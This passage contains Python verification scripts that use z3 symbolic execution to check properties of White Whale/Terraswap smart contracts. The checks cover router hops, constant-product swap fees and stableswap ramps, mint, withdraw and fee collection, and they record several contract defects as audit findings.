                ck.sample(dict(entry='router.execute(ExecuteSwapOperation)', offer=CHAIN[k], last=last, outcome=p.short()))
                if not p.ok: continue
                n += 1
                eff = effects(resp_of(p), ROUTER); kind, name = CHAIN[k]
                calls = [e for e in eff if e.kind in ('call', 'send', 'pull', 'other') or True]
                bal = z3.Int('router_balance')
                msgs = messages(resp_of(p))
                ok = len(msgs) == 1
                ck.oblige('C14.router.hop.one_msg.' + tag, p, not ok, 'a hop emits exactly one message')
                if not ok: continue
                execs = wasm_execs(resp_of(p))
                if kind == 'native':
                    good = len(execs) == 1 and same(sname(execs[0][0]), pair_name(k)) and isinstance(execs[0][1], Enum) and execs[0][1].variant == 'Swap'
                    ck.oblige('C14.router.hop.target.' + tag, p, not good, 'the hop goes to the pair the factory registers for (offer, ask), as a Swap')
                    if not good: continue
                    t, m, funds, _ = execs[0]
                    off = m.fields[0]
                    fl = funds.items if isinstance(funds, VecV) else list(funds)
                    amount_ok = len(fl) == 1 and same(fl[0].fields[0], name)
                    ck.oblige('C14.router.hop.amount.' + tag, p, (not amount_ok) or z3.Or(fl[0].fields[1].fields[0] != bal, off.fields[1].fields[0] != bal), 'the hop offers (and attaches) the router\'s whole balance of the offer asset')
                    hook = m
                    bp, ms, to = m.fields[1], m.fields[2], m.fields[3]
                else:
                    good = len(execs) == 1 and same(sname(execs[0][0]), name) and isinstance(execs[0][1], Enum) and execs[0][1].variant == 'Send'
                    ck.oblige('C14.router.hop.target.' + tag, p, not good, 'a cw20 hop is a Send on the offer token to the registered pair')
                    if not good: continue
                    snd = execs[0][1]
                    inner = snd.fields[2].fields[0].payload if isinstance(snd.fields[2].fields[0], Opaque) else None
                    ck.oblige('C14.router.hop.amount.' + tag, p, z3.Or(not same(snd.fields[0], pair_name(k)), snd.fields[1].fields[0] != bal), 'the Send goes to the registered pair with the router\'s whole balance')
                    if inner is None or not isinstance(inner, Enum) or inner.variant != 'Swap':
                        ck.oblige('C14.router.hop.hook.' + tag, p, True, 'the Send carries the pair\'s Swap hook'); continue
                    bp, ms, to = inner.fields[0], inner.fields[1], inner.fields[2]
                to_ok = (to.variant == 'Some' and same(to.fields[0], 'recv')) if last else to.variant == 'None'
                ck.oblige('C14.router.hop.params.' + tag, p, z3.Or(bp.variant != 'None', ms.variant != 'Some', not to_ok, ms.fields[0].fields[0] != z3.Int('max_spread')) if ms.variant == 'Some' else True,
                          'no belief price, the caller\'s max_spread, and the hop\'s receiver (the final receiver on the last hop, the router itself otherwise)')
            ck.require(n >= 1, tag + ': no Ok path')
    # a hop over an unregistered pair is refused
    def body_unreg(it):
        c = it.ctx; C15.router_world(it); register(it, 0, answer=False)
        it.world.bank.append((Str(ROUTER), Str(CHAIN[0][1]), c.sym('router_balance', 128)))
        op = it.mkv(PN + 'router::SwapOperation', 'TerraSwap', offer_asset_info=C15.ainfo(it, 0), ask_asset_info=C15.ainfo(it, 1))
        return enter(it, RT, 'execute', mk_env(it, 10**18), mk_info(ROUTER, []), it.mkv(RX, 'ExecuteSwapOperation', operation=op, to=NONE(), max_spread=NONE()))
    for p in ck.explore(progr, body_unreg, 'router.hop.unregistered'):
        ck.oblige('C19.router.exec.only_registered', p, p.ok, 'a hop over a pair the factory does not register is refused')


def run(ck):
    progr = ck.program('terraswap_router', 'white_whale_std')
    simulation(ck, progr); reverse_simulation(ck, progr); hop_execution(ck, progr)
    ck.bounds['router'] = '1..3 hops over an alternating native/cw20 asset chain; pair answers arbitrary'
    ck.outside += ['router routes that visit the same pool twice (the simulation asks every pool in its pre-transaction state; observed on the unchanged tree, findings/wave11-preexisting/C14)',
                   'a router that already holds a balance of a route asset (an executed hop swaps the whole balance: the receiver gets more than quoted)',
                   'coins of the ask denom attached to a native pair swap (they enlarge the ask reserve at execution time)']
    ck.assumptions.append('router multi-hop: the router holds no balance of a hop asset before the operation (an executed hop swaps the router\'s whole balance, a stray balance included)')
