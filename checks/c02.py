"""C02 — constant-product swap: exact price, exact fee split, no free money (function-level on helpers::compute_swap)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from lib_pool import *

SC = 'terraswap_pair::helpers::SwapComputation'


def cp_call(it, op, ap, off, fees):
    fp, fs, fb = fees
    pf = it.mk(PN + 'pair::PoolFee', protocol_fee=fee(it, fp), swap_fee=fee(it, fs), burn_fee=fee(it, fb))
    pt = Ref([it.mkv(PN + 'asset::PairType', 'ConstantProduct')], 0)
    c = it.ctx
    return run_entry(it, 'terraswap_pair::helpers::compute_swap', U128(op), U128(ap), U128(off), pf, pt,
                     c.sym('offer_precision', 8), c.sym('ask_precision', 8))


def main():
    ck = Check('C02')
    prog = ck.program('terraswap_pair', 'white_whale_std')

    def body(it):
        c = it.ctx
        op, ap, off = c.sym('offer_pool', 128, lo=1), c.sym('ask_pool', 128, lo=1), c.sym('offer', 128, lo=1)
        fees = valid_fees(c)
        # "valid fee configuration" is defined by running the real validator
        pf = it.mk(PN + 'pair::PoolFee', protocol_fee=fee(it, fees[0]), swap_fee=fee(it, fees[1]), burn_fee=fee(it, fees[2]))
        r = run_entry(it, 'white_whale_std::pool_network::pair::PoolFee::is_valid', Ref([pf], 0))
        if r.variant != 'Ok': raise PathPruned()
        return cp_call(it, op, ap, off, fees)
    paths = ck.explore(prog, body, 'compute_swap.cp')
    op, ap, off = z3.Int('offer_pool'), z3.Int('ask_pool'), z3.Int('offer')
    fp, fs, fb = z3.Int('fee_protocol'), z3.Int('fee_swap'), z3.Int('fee_burn')
    nok = 0
    for p in paths:
        ck.sample(dict(fn='helpers::compute_swap[ConstantProduct]', outcome=p.short(), decisions=p.log))
        # independent specification of the gross amount: G = floor(ask*offer/(offer_pool+offer))
        G = z3.Int('G_spec')
        spec = [G * (op + off) <= ap * off, (G + 1) * (op + off) > ap * off, G >= 0]
        if p.ok:
            nok += 1
            sc = p.value.fields[0]
            ret, spread, sw, pr, bu = [u_(it_fld(ck, prog, sc, n)) for n in
                                       ('return_amount', 'spread_amount', 'swap_fee_amount', 'protocol_fee_amount', 'burn_fee_amount')]
            vg = ck.oblige('C02.cp.gross', p, ret + sw + pr + bu != G, 'return + fees == floor(ask*offer/(offer_pool+offer))', lemmas=spec)
            gsum = z3.simplify(ret + sw + pr + bu)      # == G by the obligation above (lemma chaining)
            for nm, val, share in (('swap', sw, fs), ('protocol', pr, fp), ('burn', bu, fb)):
                F = z3.Int('F_spec_' + nm)
                ck.oblige('C02.cp.fee.' + nm, p, val != F, '%s fee == floor(share * gross)' % nm,
                          lemmas=[F * E18 <= share * gsum, (F + 1) * E18 > share * gsum])
                if vg != 'unsat': ck.inconclusive.append('C02.cp.fee.%s depends on C02.cp.gross' % nm)
            ck.oblige('C02.cp.lt_ask', p, ret >= ap, 'proceeds strictly below the ask reserve')
            ck.oblige('C02.cp.fees_le_gross', p, z3.Or(ret < 0, sw + pr + bu > G), 'fees never exceed the gross amount', lemmas=spec)
        else:
            # totality: an abort is only acceptable when the result does not fit in 128 bits -- it always fits (G < ask_pool),
            # so every abort path is a violation, except inside the known-defect region of the spread subtraction.
            rate = p.div(ap * E18, op)
            lhs = p.div(off * rate, E18)
            region = z3.And(lhs < G)
            fits = lhs - G < 2**128        # the spread (the fifth output field) fits in 128 bits
            if 'subtract with overflow' in p.msg:
                r = ck.oblige('C02.cp.total.spread_underflow', p, region, 'abort because offer*floor18(ask/offer_pool) < gross return',
                              lemmas=spec, site='spread_amount subtraction')
            ck.oblige('C02.cp.total', p, z3.And(z3.Not(region), fits), 'no abort when every output field fits in 128 bits',
                      lemmas=spec, site=p.short())
    ck.require(nok >= 1, 'no Ok path through compute_swap (vacuous)')
    # vacuity twins: the Ok path is reachable with non-trivial values, and a wrong spec is refuted
    okp = [p for p in paths if p.ok]
    if okp:
        ck.expect_sat('C02.cp.cover', okp[0], z3.And(off > 10**6, op > 10**12, ap > 10**12, fp > 0, fs > 0, fb > 0))
        sc = okp[0].value.fields[0]
        ret = u_(it_fld(ck, prog, sc, 'return_amount'))
        G = z3.Int('G_spec')
        r, _, _ = ck.solve(okp[0].conds + [G * (op + off) <= ap * off, (G + 1) * (op + off) > ap * off, ret != G])
        ck.vac['twin'] = ck.vac.get('twin', 0) + 1
        ck.require(r == z3.sat, 'twin obligation (return == gross, ignoring fees) should be refutable')

    if ck.tier == 'thorough':
        roundtrip(ck, prog)
    import c02_entry
    c02_entry.run(ck, prog)
    ck.bounds.update(widths='reserves and offer full u128 (>= 1), fee shares any 18-decimal values accepted by PoolFee::is_valid',
                     roundtrip='two chained compute_swap calls (thorough)')
    ck.outside.append('osmosis fee arm (feature off)')
    return ck.finish()


def roundtrip(ck, prog):
    """swap there and straight back never returns more than was put in."""
    def body(it):
        c = it.ctx
        op, ap, off = c.sym('offer_pool', 128, lo=1), c.sym('ask_pool', 128, lo=1), c.sym('offer', 128, lo=1)
        fees = valid_fees(c)
        c.assume(fees[0] + fees[1] + fees[2] < E18)
        r1 = cp_call(it, op, ap, off, fees)
        if r1.variant != 'Ok': raise PathPruned()
        s1 = r1.fields[0]
        ret1 = u_(it.fld(s1, 'return_amount')); pr1 = u_(it.fld(s1, 'protocol_fee_amount')); bu1 = u_(it.fld(s1, 'burn_fee_amount'))
        # reserves the pool reports afterwards: offer side + offer; ask side - proceeds - protocol fee - burn fee
        nop = ap - ret1 - pr1 - bu1; nap = op + off
        if not it.ctx.branch(z3.And(nop >= 1, nap < 2**128, ret1 >= 1), 'rt'): raise PathPruned()
        r2 = cp_call(it, nop, nap, ret1, fees)
        if r2.variant != 'Ok': raise PathPruned()
        it.rt = (ret1, pr1, bu1, u_(it.fld(r2.fields[0], 'return_amount')), nop, nap)
        return OK(Agg('tuple', [ret1, u_(it.fld(r2.fields[0], 'return_amount')), nop, nap, pr1, bu1]))
    paths = ck.explore(prog, body, 'roundtrip')
    op, ap, off = z3.Int('offer_pool'), z3.Int('ask_pool'), z3.Int('offer')
    for p in paths:
        if not p.ok: continue
        ret1, ret2, nop, nap, pr1, bu1 = p.value.fields[0].fields
        # lemma chaining: per-swap k monotonicity (each is itself an obligation discharged first)
        l1 = (op + off) * (ap - ret1 - pr1 - bu1) >= op * ap
        v1 = ck.oblige('C02.cp.roundtrip.lemma_k1', p, z3.Not(l1), 'first swap does not decrease k')
        lem = [l1] if v1 == 'unsat' else []
        ck.oblige('C02.cp.roundtrip', p, ret2 > off, 'second swap returns at most the original offer', lemmas=lem)


def u_(v):
    v = deref(v)
    return v.fields[0] if isinstance(v, Agg) else v


def it_fld(ck, prog, v, name):
    rec = prog.adts[v.name]
    for i, f in enumerate(rec['variants'][0]['fields']):
        if f[0] == name: return v.fields[i]
    raise KeyError(name)


if __name__ == '__main__':
    sys.exit(run_main(main))
