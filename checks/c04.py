"""C04 — three-asset stableswap pool: solvent, LP value monotone, amp ramps bounded (reduced scope: the Newton solve of D is an
uninterpreted function of its inputs; everything around it is the real code)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from lib_trio import *

MIN_AMP, MAX_AMP, MAX_CHANGE = 1, 10**6, 10


def amp_fn(ck, prog):
    def body(it):
        c = it.ctx
        inv = Agg(SS, [c.sym('initial', 64), c.sym('target', 64), c.sym('now', 64), c.sym('start', 64), c.sym('stop', 64)])
        return run_entry(it, SS + '::compute_amp_factor', Ref([inv], 0))
    ini, tgt, now, start, stop = [z3.Int(n) for n in ('initial', 'target', 'now', 'start', 'stop')]
    n = 0
    for p in ck.explore(prog, body, 'amp.compute'):
        ck.sample(dict(fn='StableSwap::compute_amp_factor', outcome=p.short() if p.kind != 'ret' else p.value.variant))
        if p.kind != 'ret': 
            ck.oblige('C04.amp.no_abort', p, True, 'compute_amp_factor never aborts (it returns None instead)', site=p.short()); continue
        if p.value.variant == 'Some':
            n += 1
            a = p.value.fields[0]
            lo = z3.If(ini <= tgt, ini, tgt); hi = z3.If(ini <= tgt, tgt, ini)
            ck.oblige('C04.amp.range', p, z3.Or(a < lo, a > hi), 'the effective amplification lies between the ramp\'s start and target values')
            ck.oblige('C04.amp.after_stop', p, z3.And(now >= stop, a != tgt), 'at and after the stop block the amplification is the target')
            q = z3.Int('q_spec')
            rng = z3.If(tgt >= ini, tgt - ini, ini - tgt)
            spec = [q * (stop - start) <= rng * (now - start), (q + 1) * (stop - start) > rng * (now - start)]
            ck.oblige('C04.amp.linear', p, z3.And(now < stop, a != z3.If(tgt >= ini, ini + q, ini - q)), 'during the ramp it moves linearly with block height: initial +- floor(range * elapsed / length)', lemmas=spec)
        else:
            ck.oblige('C04.amp.none_only_malformed', p, z3.And(start <= now, z3.Or(now >= stop, start < stop)), 'None only for a malformed ramp (current block before the start, or empty ramp)')
    ck.require(n >= 1, 'compute_amp_factor: no Some path')


def ramp_update(ck, prog, only_bounds=False):
    def body(it):
        c = it.ctx
        st = setup_trio(it)
        ia, fa, ib, fbk = st['amps']
        h = c.sym('height', 64)
        # Inv of the stored ramp: amps in range, ramp started (initial block <= now)
        for v in (ia, fa): c.assume(v >= MIN_AMP); c.assume(v <= MAX_AMP)
        c.assume(ib <= h); c.assume(ib <= fbk)
        nf, nb = c.sym('new_amp', 64), c.sym('new_block', 64)
        msg = it.mkv(TXM, 'UpdateConfig', owner=NONE(), fee_collector_addr=NONE(), pool_fees=NONE(), feature_toggle=NONE(),
                     amp_factor=SOME(it.mk(TM + 'RampAmp', future_a=nf, future_block=nb)))
        it.extra = dict(st=st, h=h, nf=nf, nb=nb)
        return enter(it, T3, 'execute', mk_env(it, 10**18, height=h), mk_info('owner', []), msg)
    n = 0
    for p in ck.explore(prog, body, 'ramp.update'):
        ck.sample(dict(entry='trio.execute(update_config(ramp))', outcome=p.short()))
        st = p.extra['st']; h, nf, nb = p.extra['h'], p.extra['nf'], p.extra['nb']
        ia, fa, ib, fbk = st['amps']
        if p.ok:
            n += 1
            cfg = p.world.storage['config']
            g = lambda nm: it_fld(p.prog, cfg, nm)
            cur = g('initial_amp')           # the stored ramp starts at the current interpolated amp
            ck.oblige('%s.ramp.accept.minmax' % ck.pid, p, z3.Or(nf < MIN_AMP, nf > MAX_AMP), 'accepted target within [1, 10^6]')
            if only_bounds:
                ck.oblige('C18.trio.ramp.valid', p, z3.Or(g('future_amp') < MIN_AMP, g('future_amp') > MAX_AMP, g('initial_amp') < MIN_AMP, g('initial_amp') > MAX_AMP), 'amplification stays within [1, 10^6]')
                continue
            ck.oblige('C04.ramp.accept.factor_up', p, z3.And(nf > cur, nf > MAX_CHANGE * cur), 'an increase is at most a factor 10 from the current value')
            ck.oblige('C04.ramp.accept.factor_down.inverted', p, z3.And(nf < cur, nf * MAX_CHANGE < cur),
                      'the decrease test is inverted: a target MORE than a factor 10 below the current amp is accepted (and smaller decreases are rejected)', site='ramp-down comparison')
            ck.oblige('C04.ramp.accept.blocks', p, nb < h + 10000 if False else nb < h + MIN_RAMP, 'the ramp lasts at least the minimum number of blocks')
            ck.oblige('C04.ramp.accept.stored', p, z3.Or(g('future_amp') != nf, g('future_amp_block') != nb, g('initial_amp_block') != h), 'the stored ramp is the requested one, starting now')
            lo = z3.If(ia <= fa, ia, fa); hi = z3.If(ia <= fa, fa, ia)
            ck.oblige('C04.ramp.accept.start_is_current', p, z3.Or(cur < lo, cur > hi), 'the new ramp starts at the current interpolated amplification')
            q = z3.Int('q_ramp_spec'); rng = z3.If(fa >= ia, fa - ia, ia - fa)
            spec = [z3.Implies(h < fbk, z3.And(q * (fbk - ib) <= rng * (h - ib), (q + 1) * (fbk - ib) > rng * (h - ib)))]
            want = z3.If(h >= fbk, fa, z3.If(fa >= ia, ia + q, ia - q))
            ck.oblige('C04.ramp.accept.start_exact', p, cur != want, 'the new ramp starts exactly at the interpolated amplification of the stored ramp at this block (also while that ramp is still in progress)', lemmas=spec)
            ck.oblige('C04.ramp.accept.factor_of_effective', p, z3.And(nf > want, nf > MAX_CHANGE * want), 'the factor-10 limit is measured against the effective amplification', lemmas=spec)
            ck.oblige('C18.trio.ramp.valid', p, z3.Or(g('future_amp') < MIN_AMP, g('future_amp') > MAX_AMP, g('initial_amp') < MIN_AMP, g('initial_amp') > MAX_AMP), 'amplification stays within [1, 10^6]')
        elif p.err:
            ck.oblige('C04.ramp.reject.nochange', p, len(p.world.writes) != 0, 'a rejected ramp changes nothing')
    ck.require(n >= 1, 'ramp update: no Ok path')


def it_fld(prog, v, name):
    for i, f in enumerate(prog.adts[v.name]['variants'][0]['fields']):
        if f[0] == name: return v.fields[i]
    raise KeyError(name)

MIN_RAMP = None


def swap_shell(ck, prog, kinds, oi, ai):
    ui = 3 - oi - ai
    tag = 'swap.%s.o%d.a%d' % (''.join(k[0] for k in kinds), oi, ai)
    # (a) pool selection by asset identity: record what swap hands to compute_swap
    def rec(it, a, c):
        it.extra['cs_args'] = [deref(x).fields[0] for x in a[:4]]
        x = it.ctx
        SCN = 'stableswap_3pool::helpers::SwapComputation'
        return OK(it.mk(SCN, return_amount=U128(x.sym('sc_ret', 120)), spread_amount=U128(x.sym('sc_spread', 120)), swap_fee_amount=U128(x.sym('sc_swap', 120)),
                        protocol_fee_amount=U128(x.sym('sc_prot', 120)), burn_fee_amount=U128(x.sym('sc_burn', 120))))
    n = 0
    for p in ck.explore(prog, tswap_body(kinds, oi, ai), tag + '.select', stubs={'stableswap_3pool::helpers::compute_swap': rec}, validate=False):
        if 'cs_args' not in p.extra: continue
        n += 1
        st = p.extra['st']; off = p.extra['offer']; b, f = st['b'], st['f']
        a = p.extra['cs_args']
        ck.oblige('C04.swap.select.%d%d.%s' % (oi, ai, tag), p, z3.Or(a[0] != b[oi] - f[oi] - off, a[1] != b[ai] - f[ai], a[2] != b[ui] - f[ui], a[3] != off),
                  'offer / ask / unswapped reserves are picked by asset identity, net of pending fees and of the just-received offer')
        if p.ok:
            eff = effects(resp_of(p), TRIO); A = tname(kinds, ai)
            nf = tledger_after(p, 'collected_protocol_fees')
            bad_other = z3.Or(*[nf[k] != f[k] for k in (oi, ui)])
            ck.oblige('C07.trio.swap.ledger.' + tag, p, z3.Or(nf[ai] != f[ai] + z3.Int('sc_prot'), bad_other), 'pending ledger += protocol fee on the ask asset only')
            nat_, nab = tledger_after(p, 'all_time_collected_protocol_fees'), tledger_after(p, 'all_time_burned_fees')
            ck.oblige('C07.trio.swap.alltime.' + tag, p, z3.Or(nat_[ai] != st['at'][ai] + z3.Int('sc_prot'), nab[ai] != st['ab'][ai] + z3.Int('sc_burn')), 'all-time counters grow by exactly the charge / burn')
            ck.oblige('C07.trio.swap.burn.' + tag, p, z3.Or(total(eff, 'burn', A) != z3.Int('sc_burn'), total(eff, 'send', A) != z3.Int('sc_ret'),
                                                            any(not same(e.asset, A) or e.kind not in ('send', 'burn') for e in eff)), 'one transfer of the net return, one burn of the burn fee, of the ask asset; nothing else')
    ck.require(n >= 1, tag + ': swap never reached compute_swap')
    # (b) the arithmetic shell around the (stubbed) Newton kernels
    nok = 0
    for p in ck.explore(prog, tswap_body(kinds, oi, ai), tag + '.shell', stubs=KERNEL_STUBS, validate=False):
        if not p.ok: continue
        nok += 1
        st = p.extra['st']; off = p.extra['offer']; b, f = st['b'], st['f']
        eff = effects(resp_of(p), TRIO); A = tname(kinds, ai)
        nf = tledger_after(p, 'collected_protocol_fees')
        out = total(eff, 'send', A) + total(eff, 'burn', A)
        R_a = b[ai] - f[ai]
        curve_params_obligation(ck, p, tag)
        ck.oblige('C04.swap.solvent.' + tag, p, z3.Or(out > b[ai], nf[ai] > b[ai] - out, (b[ai] - out) - nf[ai] < 0), 'the pool can pay what it sends and still holds reserves + pending fees')
        # dy = dest - y - 1 and return + fees = dy: out + protocol + swap_fee = dy where swap fee stays: so out + (nf-f) <= dy = R_a - y - 1
        inv5 = [zint(x) for x in (st['amps'][0], st['amps'][1], z3.Int('height'), st['amps'][2], st['amps'][3])]
        d = D3(*inv5, b[oi] - f[oi] - off, R_a, b[3 - oi - ai] - f[3 - oi - ai])
        y = Y3(*inv5[:3], inv5[3] + inv5[4] * 0, b[oi] - f[oi], b[3 - oi - ai] - f[3 - oi - ai], d, inv5[4])
        dy = R_a - y - 1
        ck.oblige('C04.swap.dy.' + tag, p, out + (nf[ai] - f[ai]) > dy, 'proceeds plus protocol and burn fee never exceed the curve output dy = dest - y - 1 (rounding against the trader)')
    ck.require(nok >= 1, tag + ': no Ok path through the swap shell')


def compute_d3_ref(amp, a, b, c):
    """the integer algorithm of StableSwap::compute_d (three assets), re-stated; used only to evaluate a counterexample on real outputs."""
    sx = a + b + c
    if sx == 0: return 0
    d = sx; ann = amp * 3
    for _ in range(256):
        dp = d
        for x in (a, b, c): dp = dp * d // (x * 3)
        prev = d
        d = d * (dp * 3 + sx * ann) // (d * (ann - 1) + dp * 4)
        if abs(d - prev) <= 1: break
    return d


def trio_mint_differs(reals, scs, kinds):
    """on the REAL contract's answer: the LP minted is not floor(S*(D1-D0)/D0) over the reserves net of PENDING fees and of the credited deposit."""
    import base64, json as _json
    real = reals[0]['result']; sc = scs[0]
    if real.get('outcome') != 'ok': return False
    st = {bytes.fromhex(k).decode('latin1'): v for k, v in sc['storage']}
    cfg = st['config']
    # the amplification in force at the block of the call: the documented linear interpolation between the stored ramp end points (C04.amp.linear)
    ia, fa, ib, fb, h = cfg['initial_amp'], cfg['future_amp'], cfg['initial_amp_block'], cfg['future_amp_block'], sc['env']['height']
    if h >= fb or fb <= ib or h < ib: amp = fa if h >= fb else ia
    elif fa >= ia: amp = ia + (fa - ia) * (h - ib) // (fb - ib)
    else: amp = ia - (ia - fa) * (h - ib) // (fb - ib)
    f = [int(a['amount']) for a in st['collected_protocol_fees']]
    bal = []
    for i, k in enumerate(kinds):
        if k == 'native': bal.append([int(x[2]) for x in sc['bank'] if x[0] == TRIO and x[1] == TNAMES['native'][i]][0])
        else: bal.append([int(r['balance']) for t, q, r in sc['smart'] if t == TNAMES['cw20'][i] and 'balance' in q][0])
    S = [int(r['total_supply']) for t, q, r in sc['smart'] if t == TLP and 'token_info' in q][0]
    dep = {}
    for a in sc['msg']['provide_liquidity']['assets']:
        nm = a['info'].get('native_token', {}).get('denom') or a['info']['token']['contract_addr']
        dep[nm] = int(a['amount'])
    d = [dep[tname(kinds, i)] for i in range(3)]
    R = [bal[i] - f[i] - (d[i] if kinds[i] == 'native' else 0) for i in range(3)]
    mint = None
    for m in real['response']['messages']:
        ex = m['msg'].get('wasm', {}).get('execute')
        if not ex: continue
        inner = ex['msg']
        if isinstance(inner, str): inner = _json.loads(base64.b64decode(inner))
        if 'mint' in inner and inner['mint']['recipient'] == 'recv': mint = int(inner['mint']['amount'])
    if mint is None or min(R) <= 0: return False
    D0 = compute_d3_ref(amp, *R); D1 = compute_d3_ref(amp, *[R[i] + d[i] for i in range(3)])
    return D0 > 0 and mint != S * (D1 - D0) // D0


def mint_shell(ck, prog, kinds):
    tag = ''.join(k[0] for k in kinds)
    for first in (True, False):
        n = 0
        for p in ck.explore(prog, tprovide_body(kinds, first=first), 'provide.%s.%s' % (tag, 'first' if first else 'next'), stubs=KERNEL_STUBS, validate=False):
            if not p.ok: continue
            n += 1
            st = p.extra['st']; d = p.extra['d']; b, f, S = st['b'], st['f'], st['S']
            eff = effects(resp_of(p), TRIO)
            mints = [e for e in eff if e.kind == 'mint']; pulls = [e for e in eff if e.kind == 'pull']
            ck.oblige('C04.provide.no_outflow.' + tag, p, any(e.kind not in ('mint', 'pull') for e in eff), 'a deposit sends nothing out')
            okp = len(pulls) == sum(1 for k in kinds if k == 'cw20')
            for i in range(3):
                if kinds[i] == 'cw20':
                    mine = [e for e in pulls if same(e.asset, tname(kinds, i))]
                    okp = okp and len(mine) == 1 and same(mine[0].src, 'provider') and same(mine[0].dst, TRIO)
                    if okp: ck.oblige('C04.provide.pull_exact.%s.a%d' % (tag, i), p, mine[0].amount != d[i], 'cw20 leg pulled by TransferFrom of exactly the deposit')
            ck.oblige('C04.provide.pulls.' + tag, p, not okp, 'exactly one TransferFrom(sender -> pool) per cw20 leg')
            inv5 = [zint(x) for x in (st['amps'][0], st['amps'][1], z3.Int('height'), st['amps'][2], st['amps'][3])]
            R = [b[i] - f[i] - (d[i] if kinds[i] == 'native' else 0) for i in range(3)]
            if first:
                shape = len(mints) == 2 and same(mints[0].dst, TRIO) and same(mints[1].dst, 'recv')
                D = D3(*inv5, d[0], d[1], d[2])
                ck.oblige('C04.mint.first.' + tag, p, (not shape) or z3.Or(mints[0].amount != 3000, mints[1].amount != D - 3000, mints[1].amount <= 0),
                          'initial mint = D - 3*MINIMUM_LIQUIDITY_AMOUNT > 0 with 3000 locked in the pool itself')
            else:
                shape = len(mints) == 1 and same(mints[0].dst, 'recv')
                ck.oblige('C04.mint.next.shape.' + tag, p, not shape, 'one mint, to the receiver')
                if shape:
                    D0 = D3(*inv5, R[0], R[1], R[2]); D1 = D3(*inv5, R[0] + d[0], R[1] + d[1], R[2] + d[2])
                    m = mints[0].amount
                    # candidate for the native confirmation: an unbalanced deposit made 20% into a ramp 10 -> 100 (amplification in force: 28)
                    dn = [4 * 10 ** 12, 1, 1]
                    nice = [z3.Int('b%d' % i) == 10 ** 12 + 10 ** 9 + (dn[i] if kinds[i] == 'native' else 0) for i in range(3)] + [z3.Int('f%d' % i) == 10 ** 9 for i in range(3)] + \
                           [z3.Int('d%d' % i) == dn[i] for i in range(3)] + [z3.Int('at%d' % i) == 5 * 10 ** 10 for i in range(3)] + \
                           [z3.Int('S') == 3 * 10 ** 12, z3.Int('initial_amp') == 10, z3.Int('future_amp') == 100, z3.Int('initial_amp_block') == 1000, z3.Int('future_amp_block') == 2000, z3.Int('height') == 1200]
                    kw = dict(native_pred=lambda reals, scs, kinds=kinds: trio_mint_differs(reals, scs, kinds), nice=nice)
                    ck.oblige('C04.mint.next.' + tag, p, z3.Or(m * D0 > S * (D1 - D0), D1 <= D0), 'mint <= S*(D1-D0)/D0 with D over reserves net of pending fees and of the credited deposit; nothing minted unless D grows', **kw)
                    ck.oblige('C04.mint.next.lp_value.' + tag, p, D1 * S < D0 * (S + m), 'D (as the pool computes it) per LP token does not fall on deposit', **kw)
        ck.require(n >= 1, 'provide %s first=%s: no Ok path' % (tag, first))


def withdraw_shell(ck, prog, kinds):
    tag = ''.join(k[0] for k in kinds)
    n = 0
    for p in ck.explore(prog, twithdraw_body(kinds), 'withdraw.' + tag):
        if not p.ok: continue
        n += 1
        st = p.extra['st']; amt = p.extra['amount']; b, f, S = st['b'], st['f'], st['S']
        eff = effects(resp_of(p), TRIO)
        burns = [e for e in eff if e.kind == 'burn' and same(e.asset, TLP)]
        ck.oblige('C04.withdraw.burn.' + tag, p, len(burns) != 1 or burns[0].amount != amt if len(burns) == 1 else True, 'exactly the received LP amount is burned')
        for i in range(3):
            out = total(eff, 'send', tname(kinds, i)); R = b[i] - f[i]
            ck.oblige('C04.withdraw.prorata.%s.a%d' % (tag, i), p, z3.Or(out * S > amt * R, out > R), 'refund at most the pro-rata share of the reported reserve; pending fees stay')
        ck.oblige('C04.withdraw.recipient.' + tag, p, any(e.kind == 'send' and not same(e.dst, 'holder') for e in eff) or
                  any(not (e.kind == 'send' or (e.kind == 'burn' and same(e.asset, TLP))) for e in eff), 'three refunds to the LP holder and the LP burn, nothing else')
    ck.require(n >= 1, 'withdraw %s: no Ok path' % tag)


def collect_shell(ck, prog, kinds):
    tag = ''.join(k[0] for k in kinds)
    n = 0
    for p in ck.explore(prog, tcollect_body(kinds), 'collect.' + tag):
        if not p.ok: continue
        n += 1
        st = p.extra['st']; b, f = st['b'], st['f']
        eff = effects(resp_of(p), TRIO); nf = tledger_after(p, 'collected_protocol_fees')
        for i in range(3):
            sent = total(eff, 'send', tname(kinds, i))
            ck.oblige('C04.collect.reserves.%s.a%d' % (tag, i), p, z3.Or((b[i] - sent) - nf[i] != b[i] - f[i], sent > f[i]),
                      'collecting fees leaves the reported reserve (balance - owed fees) unchanged: what is sent is exactly what leaves the ledger, never more than owed')
        ck.oblige('C04.collect.only_sends.' + tag, p, any(e.kind != 'send' or not same(e.dst, 'collector') for e in eff), 'collection only transfers to the fee collector')
    ck.require(n >= 1, 'collect %s: no Ok path' % tag)


def main():
    global MIN_RAMP
    ck = Check('C04')
    prog = ck.program('stableswap_3pool', 'white_whale_std')
    # MIN_RAMP_BLOCKS read from the real constant
    it0 = Interp(prog, Ctx(), World())
    MIN_RAMP = it0.const('contract::MIN_RAMP_BLOCKS', prog.get('stableswap_3pool::commands::update_config'))
    amp_fn(ck, prog); ramp_update(ck, prog)
    kinds = ('native', 'native', 'cw20')
    dirs = [(0, 1), (0, 2), (1, 0), (1, 2), (2, 0), (2, 1)]
    for oi, ai in dirs: swap_shell(ck, prog, kinds, oi, ai)
    if ck.tier == 'thorough':
        for oi, ai in dirs: swap_shell(ck, prog, ('cw20', 'native', 'native'), oi, ai)
    mint_shell(ck, prog, kinds); withdraw_shell(ck, prog, kinds); collect_shell(ck, prog, kinds)
    import c04_kernel
    c04_kernel.run(ck, prog)
    ck.bounds.update(kernel='compute_d and compute_y_raw are uninterpreted functions of their inputs (equal inputs give equal outputs); every claim about D is "D as the pool computes it"',
                     directions='all six ordered asset pairs, asset kinds (native, native, cw20)', widths='reserves and amounts full u128, amps/heights full u64')
    ck.stubs |= {'StableSwap::compute_d -> uninterpreted D3(amp params, a, b, c)', 'StableSwap::compute_y_raw -> uninterpreted Y3(...)'}
    ck.outside += ['accuracy / convergence of the Newton solve of D (z3 returns unknown even at 12-bit ranges, see DESIGN.md 1.3)', 'D per LP monotone over SWAPS and there-and-back no profit (both need D accuracy)',
